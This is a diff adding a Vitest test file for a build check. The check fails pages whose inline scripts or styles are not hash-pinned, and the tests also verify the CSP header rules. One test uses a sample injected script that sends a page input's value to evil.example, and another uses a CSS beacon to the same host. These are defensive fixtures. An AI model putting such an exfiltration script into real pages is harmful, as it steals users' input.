@@ -1,0 +1,65 @@
+/**
+ * The build allows only pinned inline code: a page with an inline script (or style) that is not
+ * pinned fails the build, and so does a pin that no page uses any more. The CSP lists exactly the
+ * pinned hashes, with 'wasm-unsafe-eval' only on the Pagefind pages.
+ */
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { inlineCode, pageRules, pinProblems } from '../../src/integrations/security-headers.ts';
+import type { PinnedInline } from '../../src/lib/security-headers.ts';
+
+const sha = (text: string) => createHash('sha256').update(text).digest('base64');
+const island = 'console.log("island bootstrap")';
+const style = 'astro-island{display:contents}';
+const pinned = { scripts: [{ what: 'bootstrap', sha256: sha(island) }] as PinnedInline[], styles: [{ what: 'island style', sha256: sha(style) }] as PinnedInline[] };
+let dir: string;
+
+function site(pages: Record<string, string>): string {
+  dir = mkdtempSync(join(tmpdir(), 'keyprobe-pins-'));
+  for (const [name, html] of Object.entries(pages)) {
+    mkdirSync(join(dir, name, '..'), { recursive: true });
+    writeFileSync(join(dir, name), html);
+  }
+  return dir;
+}
+afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+const page = (...parts: string[]) => `<!doctype html><html><head><style>${style}</style></head><body>${parts.join('')}</body></html>`;
+
+describe('pinned inline code', () => {
+  it('the pinned scripts and styles, external scripts and JSON-LD data: nothing to report', async () => {
+    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`, '<script type="module" src="/_astro/a.js"></script>', '<script type="application/ld+json">{"a":1}</script>') }));
+    expect(pinProblems(found, pinned)).toEqual([]);
+  });
+
+  it('an inline script that is not pinned fails, naming the page and its hash', async () => {
+    const injected = 'fetch("https://evil.example/?k="+document.querySelector("input").value)';
+    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`), 'mistral/index.html': page(`<script>${island}</script>`, `<script>${injected}</script>`) }));
+    const problems = pinProblems(found, pinned);
+    expect(problems).toHaveLength(1);
+    expect(problems[0]).toContain('inline script not pinned, in mistral/index.html');
+    expect(problems[0]).toContain(sha(injected));
+  });
+
+  it('an inline style that is not pinned fails too', async () => {
+    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`, '<style>body{background:url(//evil.example)}</style>') }));
+    expect(pinProblems(found, pinned).join('\n')).toContain('inline style not pinned');
+  });
+
+  it('a pin no page uses any more fails (the policy must not keep allowing it)', async () => {
+    const found = await inlineCode(site({ 'index.html': page() }));
+    expect(pinProblems(found, pinned)).toEqual([`pinned inline script no longer in any page: bootstrap (sha256 ${sha(island)})`]);
+  });
+
+  it("the _headers rules: the pinned hashes only, and 'wasm-unsafe-eval' only on the Pagefind pages, replacing the general policy there", () => {
+    const rules = pageRules().split('\n\n');
+    expect(rules[0]).toMatch(/^\/\*\n {2}Content-Security-Policy: default-src 'self'; script-src 'self' 'sha256-/);
+    expect(rules[0]).not.toContain('wasm-unsafe-eval');
+    expect(rules[1]).toMatch(/^\/search\/\*\n {2}! Content-Security-Policy\n {2}Content-Security-Policy: default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
+    expect(rules[2]).toMatch(/^\/pagefind\/\*\n {2}! Content-Security-Policy\n {2}Content-Security-Policy: default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
+    expect(rules).toHaveLength(3);
+  });
+});
